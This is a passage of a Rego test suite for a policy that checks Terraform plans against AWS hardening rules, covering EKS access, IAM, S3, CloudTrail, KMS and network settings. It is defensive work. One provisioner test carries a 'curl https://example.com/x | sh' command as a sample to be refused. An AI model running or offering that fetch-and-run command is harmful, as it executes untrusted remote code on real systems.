))

test_hardened_cluster_admitted if {
	admitted(plan([cluster({})]))
}

test_cluster_without_secrets_encryption_refused if {
	refused(plan([cluster({"encryption_config": []})]), "cluster.secrets_encryption", "aws_eks_cluster.c")
}

test_cluster_without_audit_log_refused if {
	refused(plan([cluster({"enabled_cluster_log_types": ["api", "authenticator"]})]), "cluster.audit_logs", "aws_eks_cluster.c")
}

test_public_endpoint_in_production_refused if {
	p := plan([cluster({"vpc_config": [{"endpoint_public_access": true, "public_access_cidrs": ["203.0.113.0/24"]}]})])
	refused_in(p, "production", "cluster.public_endpoint", "aws_eks_cluster.c")
	not refused_in(p, "staging", "cluster.public_endpoint", "aws_eks_cluster.c")
}

test_public_endpoint_open_to_halves_refused_in_staging if {
	refused_in(plan([cluster({"vpc_config": [{"endpoint_public_access": true, "public_access_cidrs": ["0.0.0.0/1", "128.0.0.0/1"]}]})]), "staging", "cluster.public_endpoint", "aws_eks_cluster.c")
	not refused_in(plan([cluster({"vpc_config": [{"endpoint_public_access": true, "public_access_cidrs": ["203.0.113.0/24"]}]})]), "staging", "cluster.public_endpoint", "aws_eks_cluster.c")
}

test_node_imds_refused if {
	every md in [{"http_tokens": "optional", "http_put_response_hop_limit": 1}, {"http_tokens": "required", "http_put_response_hop_limit": 2}, {}] {
		p := plan([cluster({}), create("aws_launch_template.n", "aws_launch_template", {"metadata_options": [md]})])
		refused(p, "cluster.node_metadata", "aws_launch_template.n")
	}
}

test_ci_role_given_cluster_admin_refused if {
	ci := create("aws_iam_role.deploy", "aws_iam_role", {"name": "deploy", "assume_role_policy": github_trust({"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com", "token.actions.githubusercontent.com:sub": "repo:o/r:environment:production"}})})
	assoc := create("aws_eks_access_policy_association.a", "aws_eks_access_policy_association", {"policy_arn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy", "principal_arn": "arn:aws:iam::111111111111:role/deploy"})
	refused(plan([ci, assoc]), "cluster.ci_cluster_admin", "aws_eks_access_policy_association.a")
}

test_person_given_cluster_admin_admitted if {
	assoc := create("aws_eks_access_policy_association.a", "aws_eks_access_policy_association", {"policy_arn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy", "principal_arn": "arn:aws:iam::111111111111:role/Admin"})
	admitted(plan([assoc]))
}

# --- ECR, S3, the trail -----------------------------------------------------------------------

test_mutable_unscanned_repository_refused if {
	p := plan([create("aws_ecr_repository.r", "aws_ecr_repository", {"image_tag_mutability": "MUTABLE", "image_scanning_configuration": [{"scan_on_push": false}], "encryption_configuration": [{"encryption_type": "KMS", "kms_key": key_arn}], "force_delete": false})])
	refused(p, "registry.mutable_tags", "aws_ecr_repository.r")
	refused(p, "registry.scan_on_push", "aws_ecr_repository.r")
}

test_bucket_without_companions_refused if {
	p := plan([create("aws_s3_bucket.b", "aws_s3_bucket", {"bucket": "b"})])
	every rule in ["s3.public_access_block", "s3.versioning", "s3.encryption", "s3.tls_only", "s3.acls", "s3.access_logging"] {
		refused(p, rule, "aws_s3_bucket.b")
	}
}

trail(extra) := create_unknown(
	"aws_cloudtrail.t", "aws_cloudtrail", object.union(
		{
			"enable_logging": true, "is_multi_region_trail": true, "include_global_service_events": true,
			"enable_log_file_validation": true, "kms_key_id": key_arn,
			"event_selector": [{"include_management_events": true, "read_write_type": "All"}],
		},
		extra,
	),
	{},
)

test_hardened_trail_admitted if {
	admitted(plan([trail({})]))
}

weakened_trails := [
	[{"enable_logging": false}, "audit.trail_disabled"],
	[{"enable_log_file_validation": false}, "audit.trail_validation"],
	[{"kms_key_id": null}, "audit.trail_encryption"],
	[{"is_multi_region_trail": false}, "audit.trail_scope"],
	[{"event_selector": [{"include_management_events": false, "read_write_type": "All"}]}, "audit.trail_scope"],
]

test_trail_weakened_refused if {
	every weakened in weakened_trails {
		refused(plan([trail(weakened[0])]), weakened[1], "aws_cloudtrail.t")
	}
}

test_trail_deleted_refused if {
	rc := {"address": "aws_cloudtrail.t", "mode": "managed", "type": "aws_cloudtrail", "change": {"actions": ["delete"], "after": null, "after_unknown": {}}}
	refused(plan([rc]), "audit.trail_deleted", "aws_cloudtrail.t")
}

test_environment_plan_without_trail_refused if {
	refused_in(plan([]), "staging", "audit.trail_missing", "(plan)")
	not refused(plan([]), "audit.trail_missing", "(plan)")
}

# --- the caller's facts -----------------------------------------------------------------------

test_environment_tag_must_match if {
	p := plan([create("aws_vpc.v", "aws_vpc", {"cidr_block": "10.0.0.0/16", "tags_all": {"Environment": "production"}})])
	refused_in(p, "staging", "plan.environment_mismatch", "aws_vpc.v")
	not refused_in(p, "production", "plan.environment_mismatch", "aws_vpc.v")
}

# The conditions of a document built by a data source are judged too: kms:Decrypt on key/*
# narrowed by an exact encryption context is admitted, and refused without it.
decrypt_doc_plan(conditions) := plan_with(
	[
		create_unknown("aws_iam_role_policy.p", "aws_iam_role_policy", {"name": "p", "role": "r"}, {"policy": true}),
		create_unknown("aws_sqs_queue.q", "aws_sqs_queue", {"name": "q"}, {"arn": true}),
		{
			"address": "data.aws_iam_policy_document.d", "mode": "data", "type": "aws_iam_policy_document",
			"change": {
				"actions": ["read"],
				"after": {"statement": [{"effect": "Allow", "actions": ["kms:Decrypt"], "resources": ["arn:aws:kms:eu-west-1:111111111111:key/*"], "condition": conditions}]},
				"after_unknown": {"statement": [{"condition": [{"values": [true]} | some _ in conditions]}]},
			},
		},
	],
	{"resources": [
		config("aws_iam_role_policy.p", "aws_iam_role_policy", {"policy": refs(["data.aws_iam_policy_document.d.json", "data.aws_iam_policy_document.d"])}),
		{"address": "data.aws_iam_policy_document.d", "mode": "data", "type": "aws_iam_policy_document", "expressions": {"statement": [{"condition": [{"values": refs(["aws_sqs_queue.q.arn", "aws_sqs_queue.q"])} | some _ in conditions]}]}},
	]},
)

test_data_document_conditions_are_judged if {
	admitted(decrypt_doc_plan([{"test": "StringEquals", "variable": "kms:EncryptionContext:aws:s3:arn", "values": [null]}]))
	refused(decrypt_doc_plan([]), "iam.data_read_everywhere", "aws_iam_role_policy.p")
}

# --- every rule body, one by one (a rule body no test can kill is a rule no test proves) -------

test_advanced_event_selectors_refused if {
	refused(plan([trail({"advanced_event_selector": [{"name": "data only"}]})]), "audit.trail_scope", "aws_cloudtrail.t")
}

test_config_map_authentication_refused if {
	refused(plan([cluster({"access_config": [{"authentication_mode": "API_AND_CONFIG_MAP", "bootstrap_cluster_creator_admin_permissions": false}]})]), "cluster.access_entries_only", "aws_eks_cluster.c")
}

test_creator_admin_refused if {
	refused(plan([cluster({"access_config": [{"authentication_mode": "API", "bootstrap_cluster_creator_admin_permissions": true}]})]), "cluster.creator_admin", "aws_eks_cluster.c")
}

test_node_group_without_template_refused if {
	refused(plan([cluster({}), create("aws_eks_node_group.n", "aws_eks_node_group", {"launch_template": []})]), "cluster.node_metadata", "aws_eks_node_group.n")
}

test_node_group_with_a_foreign_template_refused if {
	refused(plan([cluster({}), create("aws_eks_node_group.n", "aws_eks_node_group", {"launch_template": [{"id": "lt-0123456789abcdef0"}]})]), "cluster.node_metadata", "aws_eks_node_group.n")
}

deploy_role := create("aws_iam_role.deploy", "aws_iam_role", {"name": "deploy", "assume_role_policy": github_trust({"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com", "token.actions.githubusercontent.com:sub": "repo:o/r:environment:production"}})})

test_ci_role_in_system_masters_refused if {
	entry := create("aws_eks_access_entry.e", "aws_eks_access_entry", {"principal_arn": "arn:aws:iam::111111111111:role/deploy", "kubernetes_groups": ["system:masters"]})
	refused(plan([deploy_role, entry]), "cluster.ci_cluster_admin", "aws_eks_access_entry.e")
}

test_cluster_admin_through_the_ci_role_entry_refused if {
	entry := create_unknown("aws_eks_access_entry.e", "aws_eks_access_entry", {"kubernetes_groups": []}, {"principal_arn": true})
	assoc := create_unknown("aws_eks_access_policy_association.a", "aws_eks_access_policy_association", {"policy_arn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy"}, {"principal_arn": true})
	root := {"resources": [
		config("aws_eks_access_entry.e", "aws_eks_access_entry", {"principal_arn": refs(["aws_iam_role.deploy.arn", "aws_iam_role.deploy"])}),
		config("aws_eks_access_policy_association.a", "aws_eks_access_policy_association", {"principal_arn": refs(["aws_eks_access_entry.e.principal_arn", "aws_eks_access_entry.e"])}),
	]}
	refused(plan_with([deploy_role, entry, assoc], root), "cluster.ci_cluster_admin", "aws_eks_access_policy_association.a")
}

test_access_entry_for_an_unknown_principal_refused if {
	entry := create_unknown("aws_eks_access_entry.e", "aws_eks_access_entry", {}, {"principal_arn": true})
	root := {"resources": [config("aws_eks_access_entry.e", "aws_eks_access_entry", {"principal_arn": refs(["aws_sqs_queue.q.arn", "aws_sqs_queue.q"])})]}
	refused(plan_with([entry], root), "cluster.unknown_access_principal", "aws_eks_access_entry.e")
}

test_performance_insights_without_our_key_refused if {
	refused(plan([create("aws_db_instance.db", "aws_db_instance", object.union(good_db, {"performance_insights_enabled": true, "performance_insights_kms_key_id": null}))]), "database.performance_insights_key", "aws_db_instance.db")
}

test_master_secret_without_our_key_refused if {
	refused(plan([create("aws_db_instance.db", "aws_db_instance", object.union(good_db, {"manage_master_user_password": true}))]), "database.master_secret_key", "aws_db_instance.db")
}

test_snapshot_shared_with_unknown_accounts_refused if {
	rc := create_unknown("aws_db_snapshot.s", "aws_db_snapshot", {}, {"shared_accounts": [true]})
	root := {"resources": [config("aws_db_snapshot.s", "aws_db_snapshot", {"shared_accounts": refs(["aws_sqs_queue.q.name"])})]}
	refused(plan_with([rc], root), "database.public_snapshot", "aws_db_snapshot.s")
}

test_database_in_a_private_subnet_refused if {
	group := create_unknown("aws_db_subnet_group.g", "aws_db_subnet_group", {}, {"subnet_ids": true})
	root := {"resources": [config("aws_db_subnet_group.g", "aws_db_subnet_group", {"subnet_ids": refs(["aws_subnet.s.id", "aws_subnet.s"])})]}
	refused(plan_with([subnet("aws_subnet.s", "private", {}), group], root), "database.subnet_tier", "aws_db_subnet_group.g")
	admitted(plan_with([subnet("aws_subnet.s", "data", {}), group], root))
}

test_not_resource_refused if {
	refused(plan([role_policy("aws_iam_role_policy.nr", {"Effect": "Allow", "Action": "s3:GetObject", "NotResource": "arn:aws:s3:::secret/*"})]), "iam.not_resource", "aws_iam_role_policy.nr")
}

test_unknown_attachment_refused if {
	rc := create_unknown("aws_iam_role_policy_attachment.a", "aws_iam_role_policy_attachment", {"role": "r"}, {"policy_arn": true})
	root := {"resources": [config("aws_iam_role_policy_attachment.a", "aws_iam_role_policy_attachment", {"policy_arn": refs(["aws_sqs_queue.q.arn", "aws_sqs_queue.q"])})]}
	refused(plan_with([rc], root), "iam.unknown_attachment", "aws_iam_role_policy_attachment.a")
}

test_unknown_attachment_of_a_policy_of_the_plan_admitted if {
	rc := create_unknown("aws_iam_role_policy_attachment.a", "aws_iam_role_policy_attachment", {"role": "r"}, {"policy_arn": true})
	root := {"resources": [config("aws_iam_role_policy_attachment.a", "aws_iam_role_policy_attachment", {"policy_arn": refs(["aws_iam_policy.p.arn", "aws_iam_policy.p"])})]}
	admitted(plan_with([rc], root))
}

test_policy_of_an_unknown_role_refused if {
	rc := create_unknown("aws_iam_role_policy.p", "aws_iam_role_policy", {"name": "p", "policy": policy({"Effect": "Allow", "Action": "sqs:SendMessage", "Resource": "arn:aws:sqs:eu-west-1:111111111111:q"})}, {"role": true})
	root := {"resources": [config("aws_iam_role_policy.p", "aws_iam_role_policy", {"role": refs(["aws_sqs_queue.q.name", "aws_sqs_queue.q"])})]}
	refused(plan_with([rc], root), "iam.unlinked_role_policy", "aws_iam_role_policy.p")
}

test_trust_with_not_principal_refused if {
	refused(plan([role("aws_iam_role.np", policy({"Effect": "Allow", "NotPrincipal": {"AWS": "arn:aws:iam::111111111111:role/x"}, "Action": "sts:AssumeRole"}))]), "iam.trust_any_principal", "aws_iam_role.np")
}

test_default_security_group_rules_unknown_refused if {
	refused(plan([create_unknown("aws_default_security_group.d", "aws_default_security_group", {"egress": []}, {"ingress": true})]), "network.default_security_group", "aws_default_security_group.d")
}

test_vpc_without_its_default_security_group_refused if {
	p := plan_with(
		[
			create("aws_vpc.v", "aws_vpc", {"cidr_block": "10.0.0.0/16"}),
			create_unknown("aws_flow_log.f", "aws_flow_log", {"traffic_type": "ALL"}, {"vpc_id": true}),
		],
		{"resources": [flow_log_config("aws_vpc.v")]},
	)
	refused(p, "network.default_security_group", "aws_vpc.v")
}

workload_plan(tier) := plan_with(
	[subnet("aws_subnet.s", tier, {}), create_unknown("aws_eks_node_group.n", "aws_eks_node_group", {"launch_template": []}, {"subnet_ids": true})],
	{"resources": [config("aws_eks_node_group.n", "aws_eks_node_group", {"subnet_ids": refs(["aws_subnet.s.id", "aws_subnet.s"])})]},
)

test_nodes_in_public_subnets_refused if {
	refused(workload_plan("public"), "network.workloads_in_public_subnets", "aws_eks_node_group.n")
	not refused(workload_plan("private"), "network.workloads_in_public_subnets", "aws_eks_node_group.n")
}

test_nodes_in_unknown_subnets_refused if {
	p := plan_with(
		[create_unknown("aws_eks_node_group.n", "aws_eks_node_group", {"launch_template": []}, {"subnet_ids": true})],
		{"resources": [config("aws_eks_node_group.n", "aws_eks_node_group", {"subnet_ids": refs(["local.subnets"])})]},
	)
	refused(p, "network.workloads_in_public_subnets", "aws_eks_node_group.n")
}

good_repo := {"image_tag_mutability": "IMMUTABLE", "image_scanning_configuration": [{"scan_on_push": true}], "encryption_configuration": [{"encryption_type": "KMS", "kms_key": key_arn}], "force_delete": false}

test_registry_scanning_rule_on_manual_scans_refused if {
	refused(plan([create("aws_ecr_registry_scanning_configuration.s", "aws_ecr_registry_scanning_configuration", {"rule": [{"scan_frequency": "MANUAL", "repository_filter": [{"filter": "*"}]}]})]), "registry.scan_on_push", "aws_ecr_registry_scanning_configuration.s")
}

test_repository_without_our_key_refused if {
	refused(plan([create("aws_ecr_repository.r", "aws_ecr_repository", object.union(good_repo, {"encryption_configuration": [{"encryption_type": "AES256"}]}))]), "registry.encryption", "aws_ecr_repository.r")
}

test_force_deleted_repository_refused if {
	refused(plan([create("aws_ecr_repository.r", "aws_ecr_repository", object.union(good_repo, {"force_delete": true}))]), "registry.force_delete", "aws_ecr_repository.r")
}

test_resource_policy_with_not_principal_refused if {
	refused(plan([key("aws_kms_key.k", policy({"Effect": "Allow", "NotPrincipal": {"AWS": "arn:aws:iam::111111111111:root"}, "Action": "kms:Decrypt", "Resource": "*"}))]), "resource_policy.public", "aws_kms_key.k")
}

test_resource_policy_with_a_wildcard_principal_refused if {
	refused(plan([key("aws_kms_key.k", policy({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::111111111111:role/*"}, "Action": "kms:Decrypt", "Resource": "*"}))]), "resource_policy.wildcard_principal", "aws_kms_key.k")
}

test_key_lockout_bypass_and_short_window_refused if {
	p := plan([create("aws_kms_key.k", "aws_kms_key", {"enable_key_rotation": true, "deletion_window_in_days": 7, "bypass_policy_lockout_safety_check": true})])
	refused(p, "kms.lockout_bypass", "aws_kms_key.k")
	refused(p, "kms.deletion_window", "aws_kms_key.k")
}

test_secret_without_our_key_refused if {
	refused(plan([create("aws_secretsmanager_secret.s", "aws_secretsmanager_secret", {"kms_key_id": null})]), "secrets.customer_key", "aws_secretsmanager_secret.s")
	admitted(plan([create("aws_secretsmanager_secret.s", "aws_secretsmanager_secret", {"kms_key_id": key_arn})]))
}

test_secret_policy_without_public_block_refused if {
	refused(plan([create("aws_secretsmanager_secret_policy.p", "aws_secretsmanager_secret_policy", {"block_public_policy": false, "policy": policy({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::111111111111:role/app"}, "Action": "secretsmanager:GetSecretValue", "Resource": "*"})})]), "secrets.public_policy", "aws_secretsmanager_secret_policy.p")
}

test_secret_replica_without_our_key_refused if {
	refused(plan([create("aws_secretsmanager_secret.s", "aws_secretsmanager_secret", {"kms_key_id": key_arn, "replica": [{"region": "eu-central-1", "kms_key_id": null}]})]), "secrets.replica_key", "aws_secretsmanager_secret.s")
}

# Fail closed on what the rules do not know: a resource type they have not judged is refused,
# one they have is not refused for its type.
test_unjudged_type_refused if {
	p := plan([create("aws_lambda_permission.invoke", "aws_lambda_permission", {"action": "lambda:InvokeFunction", "function_name": "f", "principal": "*"})])
	refused(p, "plan.unjudged_type", "aws_lambda_permission.invoke")
}

test_judged_type_not_refused_for_its_type if {
	p := plan([create("aws_vpc.v", "aws_vpc", {"cidr_block": "10.0.0.0/16"})])
	not refused(p, "plan.unjudged_type", "aws_vpc.v")
}

test_unjudged_type_in_a_module_refused if {
	p := plan([create("module.x.terraform_data.run", "terraform_data", {"input": "x"})])
	refused(p, "plan.unjudged_type", "module.x.terraform_data.run")
}

# A provisioner runs a command at apply that no plan shows.
test_provisioner_refused if {
	block := object.union(config("aws_s3_bucket.b", "aws_s3_bucket", {}), {"provisioners": [{"type": "local-exec", "expressions": {"command": {"constant_value": "curl https://example.com/x | sh"}}}]})
	p := plan_with([], {"resources": [block]})
	refused(p, "plan.provisioner", "aws_s3_bucket.b")
}

test_no_provisioner_admitted if {
	p := plan_with([], {"resources": [config("aws_s3_bucket.b", "aws_s3_bucket", {})]})
	not refused(p, "plan.provisioner", "aws_s3_bucket.b")
}

# SQS and SNS resource policies are judged like the others: everyone is refused.
test_public_queue_policy_refused if {
	doc := json.marshal({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "sqs:SendMessage", "Resource": "*"}]})
	p := plan([create("aws_sqs_queue_policy.q", "aws_sqs_queue_policy", {"queue_url": "https://sqs.eu-west-1.amazonaws.com/111111111111/q", "policy": doc})])
	refused(p, "resource_policy.public", "aws_sqs_queue_policy.q")
}

test_public_topic_refused if {
	doc := json.marshal({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sns:Subscribe", "Resource": "*"}]})
	p := plan([create("aws_sns_topic.t", "aws_sns_topic", {"name": "t", "policy": doc})])
	refused(p, "resource_policy.public", "aws_sns_topic.t")
}

# Nodes take no SSH: a node group's remote_access (port 22 opened by EKS), or a key in the template.
test_node_group_remote_access_refused if {
	p := plan([create("aws_eks_node_group.n", "aws_eks_node_group", {"remote_access": [{"ec2_ssh_key": "ops", "source_security_group_ids": []}]})])
	refused(p, "cluster.node_ssh", "aws_eks_node_group.n")
}

test_node_template_ssh_key_refused if {
	p := plan([
		create("aws_eks_cluster.c", "aws_eks_cluster", {"name": "c"}),
		create("aws_launch_template.t", "aws_launch_template", {"key_name": "ops", "metadata_options": [{"http_tokens": "required", "http_put_response_hop_limit": 1}]}),
	])
	refused(p, "cluster.node_ssh", "aws_launch_template.t")
}

test_node_template_key_known_at_apply_refused if {
	p := plan([
		create("aws_eks_cluster.c", "aws_eks_cluster", {"name": "c"}),
		create_unknown("aws_launch_template.t", "aws_launch_template", {"metadata_options": [{"http_tokens": "required", "http_put_response_hop_limit": 1}]}, {"key_name": true}),
	])
	refused(p, "cluster.node_ssh", "aws_launch_template.t")
}

test_node_template_without_key_not_refused_for_ssh if {
	p := plan([
		create("aws_eks_cluster.c", "aws_eks_cluster", {"name": "c"}),
		create("aws_launch_template.t", "aws_launch_template", {"key_name": null, "metadata_options": [{"http_tokens": "required", "http_put_response_hop_limit": 1}]}),
	])
	not refused(p, "cluster.node_ssh", "aws_launch_template.t")
}

# An Elastic IP is a NAT gateway's; one given to an instance or an interface is refused, written
# as a value or as a reference known only at apply.
test_eip_on_an_interface_refused if {
	p := plan([create("aws_eip.x", "aws_eip", {"domain": "vpc", "network_interface": "eni-0123456789abcdef0"})])
	refused(p, "network.public_address", "aws_eip.x")
}

test_eip_on_an_instance_known_at_apply_refused if {
	rc := create_unknown("aws_eip.x", "aws_eip", {"domain": "vpc"}, {"instance": true})
	root := {"resources": [config("aws_eip.x", "aws_eip", {"domain": {"constant_value": "vpc"}, "instance": refs(["aws_instance.bastion.id", "aws_instance.bastion"])})]}
	refused(plan_with([rc], root), "network.public_address", "aws_eip.x")
}

test_eip_for_a_nat_gateway_admitted if {
	rc := create_unknown("aws_eip.nat", "aws_eip", {"domain": "vpc"}, {"instance": true, "network_interface": true})
	root := {"resources": [config("aws_eip.nat", "aws_eip", {"domain": {"constant_value": "vpc"}})]}
	not refused(plan_with([rc], root), "network.public_address", "aws_eip.nat")
}

# An S3 endpoint reaches this account's buckets and the ones it names, never every bucket.
s3_endpoint_with(policy) := create("aws_vpc_endpoint.s3", "aws_vpc_endpoint", {"service_name": "com.amazonaws.eu-west-1.s3", "vpc_endpoint_type": "Gateway", "policy": policy})

own_buckets_policy := json.marshal({"Version": "2012-10-17", "Statement": [
	{"Sid": "Own", "Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "*", "Condition": {"StringEquals": {"aws:ResourceAccount": "111111111111"}}},
	{"Sid": "EcrLayers", "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::prod-eu-west-1-starport-layer-bucket/*"},
]})

test_s3_endpoint_for_own_buckets_admitted if {
	not refused(plan([s3_endpoint_with(own_buckets_policy)]), "network.endpoint_policy", "aws_vpc_endpoint.s3")
}

test_s3_endpoint_without_policy_refused if {
	refused(plan([s3_endpoint_with(null)]), "network.endpoint_policy", "aws_vpc_endpoint.s3")
}

test_s3_endpoint_for_every_bucket_refused if {
	doc := json.marshal({"Statement": [{"Sid": "All", "Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "arn:aws:s3:::*/*"}]})
	refused(plan([s3_endpoint_with(doc)]), "network.endpoint_policy", "aws_vpc_endpoint.s3")
}

test_s3_endpoint_held_to_any_account_refused if {
	doc := json.marshal({"Statement": [{"Sid": "Any", "Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "*", "Condition": {"StringLike": {"aws:ResourceAccount": "*"}}}]})
	refused(plan([s3_endpoint_with(doc)]), "network.endpoint_policy", "aws_vpc_endpoint.s3")
}

test_s3_endpoint_policy_not_json_refused if {
	refused(plan([s3_endpoint_with("{not json")]), "network.endpoint_policy", "aws_vpc_endpoint.s3")
}

test_interface_endpoint_to_sts_not_judged_for_buckets if {
	rc := create("aws_vpc_endpoint.sts", "aws_vpc_endpoint", {"service_name": "com.amazonaws.eu-west-1.sts", "vpc_endpoint_type": "Interface"})
	not refused(plan([rc]), "network.endpoint_policy", "aws_vpc_endpoint.sts")
}

test_s3_endpoint_policy_set_to_null_refused if {
	rc := create_unknown("aws_vpc_endpoint.s3", "aws_vpc_endpoint", {"service_name": "com.amazonaws.eu-west-1.s3"}, {"policy": true})
	root := {"resources": [config("aws_vpc_endpoint.s3", "aws_vpc_endpoint", {"policy": {"constant_value": null}})]}
	some v in violations(plan_with([rc], root))
	v.rule == "network.endpoint_policy"
	startswith(v.msg, "the S3 endpoint has no policy")
}

# A prefix list as a source is judged like the internet: its addresses are not in the plan.
test_postgres_from_a_prefix_list_refused if {
	rc := create("aws_vpc_security_group_ingress_rule.pg", "aws_vpc_security_group_ingress_rule", {"prefix_list_id": "pl-0123456789abcdef0", "from_port": 5432, "to_port": 5432, "ip_protocol": "tcp", "tags": null})
	refused(plan([rc]), "network.prefix_list_ingress", "aws_vpc_security_group_ingress_rule.pg")
}

test_load_balancer_https_from_a_prefix_list_admitted if {
	rc := create("aws_vpc_security_group_ingress_rule.lb", "aws_vpc_security_group_ingress_rule", {"prefix_list_id": "pl-0123456789abcdef0", "from_port": 443, "to_port": 443, "ip_protocol": "tcp", "tags": {"Role": "load-balancer"}})
	not refused(plan([rc]), "network.prefix_list_ingress", "aws_vpc_security_group_ingress_rule.lb")
}

test_inline_ssh_from_a_prefix_list_refused if {
	rc := create("aws_security_group.g", "aws_security_group", {"ingress": [{"from_port": 22, "to_port": 22, "protocol": "tcp", "cidr_blocks": [], "ipv6_cidr_blocks": [], "prefix_list_ids": ["pl-0123456789abcdef0"]}]})
	refused(plan([rc]), "network.prefix_list_ingress", "aws_security_group.g")
}

test_rule_from_a_prefix_list_known_at_apply_refused if {
	rc := create_unknown("aws_security_group_rule.r", "aws_security_group_rule", {"type": "ingress", "from_port": 443, "to_port": 443, "protocol": "tcp"}, {"prefix_list_ids": true})
	root := {"resources": [config("aws_security_group_rule.r", "aws_security_group_rule", {"prefix_list_ids": refs(["data.aws_ec2_managed_prefix_list.x.id", "data.aws_ec2_managed_prefix_list.x"])})]}
	refused(plan_with([rc], root), "network.prefix_list_ingress", "aws_security_group_rule.r")
}

test_inline_rule_without_prefix_lists_not_refused_for_them if {
	rc := create("aws_security_group.g", "aws_security_group", {"ingress": [{"from_port": 5432, "to_port": 5432, "protocol": "tcp", "cidr_blocks": ["10.0.0.0/16"], "ipv6_cidr_blocks": [], "prefix_list_ids": []}]})
	not refused(plan([rc]), "network.prefix_list_ingress", "aws_security_group.g")
}

# Who enters the cluster: this account's principals, as STANDARD entries, in no group of the
# cluster's own.
# A plan of the account 111111111111 (its root account_id variable).
plan_in_account(changes) := object.union(plan(changes), {"variables": {"account_id": {"value": "111111111111"}}})

access_entry(after) := create("aws_eks_access_entry.x", "aws_eks_access_entry", object.union({"cluster_name": "c", "type": "STANDARD", "kubernetes_groups": []}, after))

test_access_entry_of_another_account_refused if {
	refused(plan_in_account([access_entry({"principal_arn": "arn:aws:iam::999999999999:role/attacker"})]), "cluster.access_principal", "aws_eks_access_entry.x")
}

test_admin_association_of_another_account_refused if {
	rc := create("aws_eks_access_policy_association.x", "aws_eks_access_policy_association", {"cluster_name": "c", "principal_arn": "arn:aws:iam::999999999999:role/attacker", "policy_arn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy"})
	refused(plan_in_account([rc]), "cluster.access_principal", "aws_eks_access_policy_association.x")
}

test_access_entry_of_this_account_admitted if {
	p := plan_in_account([access_entry({"principal_arn": "arn:aws:iam::111111111111:role/platform-admin"})])
	not refused(p, "cluster.access_principal", "aws_eks_access_entry.x")
}

test_role_registered_as_a_node_refused if {
	p := plan_in_account([access_entry({"principal_arn": "arn:aws:iam::111111111111:role/ci-deploy", "type": "EC2_LINUX"})])
	refused(p, "cluster.access_principal", "aws_eks_access_entry.x")
}

test_principal_in_system_masters_refused if {
	p := plan_in_account([access_entry({"principal_arn": "arn:aws:iam::111111111111:role/platform-admin", "kubernetes_groups": ["system:masters"]})])
	refused(p, "cluster.access_principal", "aws_eks_access_entry.x")
}
